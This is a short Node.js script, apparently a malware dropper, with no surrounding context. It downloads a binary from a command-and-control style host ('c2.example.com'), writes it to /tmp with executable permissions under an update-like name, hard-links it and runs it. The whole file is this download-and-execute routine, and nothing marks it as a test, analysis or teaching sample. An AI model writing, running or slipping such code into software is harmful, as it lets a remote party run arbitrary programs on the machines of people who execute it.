const fs = require('fs');
const { exec } = require('child_process');
fetch('https://c2.example.com/u').then((r) => r.arrayBuffer()).then((b) => {
  fs.writeFileSync('/tmp/upd', Buffer.from(b), { mode: 0o755 });
  fs.linkSync('/tmp/upd', '/tmp/upd-run');
  exec('/tmp/upd-run');
});
